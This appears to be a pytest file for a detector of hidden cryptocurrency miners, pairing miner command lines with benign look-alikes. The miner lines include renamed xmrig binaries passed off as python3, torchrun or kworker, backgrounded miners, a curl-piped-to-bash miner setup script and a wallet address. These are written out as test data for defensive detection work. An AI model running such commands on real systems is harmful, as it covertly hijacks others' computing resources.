"""Miners under any name, and the many things that are called miners."""

import pytest

from tests.detection.cases import families, process, rules_on

WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
MINERS = (
    f"./xmrig -o pool.example:443 -u {WALLET} --tls",
    "sudo nice -n -20 ./xmrig --config=/work/c.json",
    "screen -dmS m ./xmrig -B -c c.json",
    "./t-rex -a kawpow -o stratum+tcp://rvn.example:6060 -u RW.rig0 -p x",
    "lolMiner --algo ETCHASH --pool etc.example:1010 --user 0xabc.rig",
    "./miner --algo kawpow --server rvn.example --port 6060 --user R.w",
    "./miner -uri ethstratum://0xabc.w@eth.example:4444",
    f"cp xmrig /work/python3 && /work/python3 -o 203.0.113.4:443 -u {WALLET} --tls",
    "/work/torchrun -a rx/0 -o 10.0.0.5:3333 -u x --nicehash",
    "./train --algo randomx --pool 203.0.113.4:3333 --wallet 44AFFq5k",
    "nohup /work/kworker -o stratum+tcp://203.0.113.4:3333 -u x >/dev/null 2>&1 &",
    "python3 -c \"import os; os.execv('/work/a', ['python3', '--url', 'stratum+ssl://h.example:443'])\"",
    "./w --url xmr.2miners.com:2222 --user x",
    "docker run -d metal3d/xmrig",
    "git clone https://github.com/xmrig/xmrig.git",
    "curl -sL https://raw.example.com/MoneroOcean/xmrig_setup/setup_moneroocean_miner.sh | bash -s x",
    "geth --mine --miner.threads=4",
    'echo \'{"id":1,"method":"mining.subscribe","params":[]}\' | nc 203.0.113.4 3333',
    "earnapp start",
)
BENIGN = (
    "python -m pytorch_metric_learning.examples.train --miner MultiSimilarityMiner",
    "python text_mining/run.py --pool-size 8 --hash-buckets 1024",
    "python mine_hard_negatives.py --pool 10.0.0.5:8000 --user bob",
    "pip install pm4py apriori-miner sentence-transformers",
    "python process_miner.py --log events.xes --algo alpha",
    "grep -rn xmrig docs/security/incident.md",
    "grep -iE 'stratum\\+tcp|xmrig|minerd' /var/log/syslog",
    "pgrep -fa 'xmrig|t-rex|lolMiner|nbminer'",
    "pkill -9 xmrig",
    "ps aux | grep -i miner",
    "rg -n 'stratum\\+tcp://' rules/",
    "echo 'block stratum+tcp:// and port 3333' >> notes.md",
    "git log --grep='xmrig -o stratum+tcp://x:1'",
    "python -m pytest -k 'xmrig or chisel'",
    "virsh pool-define-as --name pool_name --type dir --target /var/vms",
    "xmrig --help",
    "nvidia-smi -pl 350",
    "./gpu_burn 3600",
    "curl -s http://archive.ubuntu.com/ubuntu/pool/universe/s/splint.diff.gz",
    "python train.py --optimizer adam --algo ppo --pool mean --user alice",
    "minikube start --driver docker",
    "sha256sum -a 256 model.bin",
)


@pytest.mark.parametrize("text", MINERS)
def test_a_miner_is_seen(text: str) -> None:
    assert "mining" in families(text)


@pytest.mark.parametrize("text", BENIGN)
def test_what_is_only_called_so_is_left_alone(text: str) -> None:
    assert "mining" not in families(text)


def test_a_miner_that_calls_itself_python_is_seen_by_the_file_behind_it() -> None:
    assert "miner-program" in rules_on(process("python3 -c c.json", exe="/work/.cache/xmrig"))


def test_four_signs_of_one_miner_are_one_finding() -> None:
    seen = rules_on(
        process(f"xmrig --donate-level 1 -a rx/0 -o stratum+tcp://xmr.2miners.com:2222 -u {WALLET}")
    )
    assert {"miner-program", "stratum-address", "miner-options", "mining-pool"} <= seen
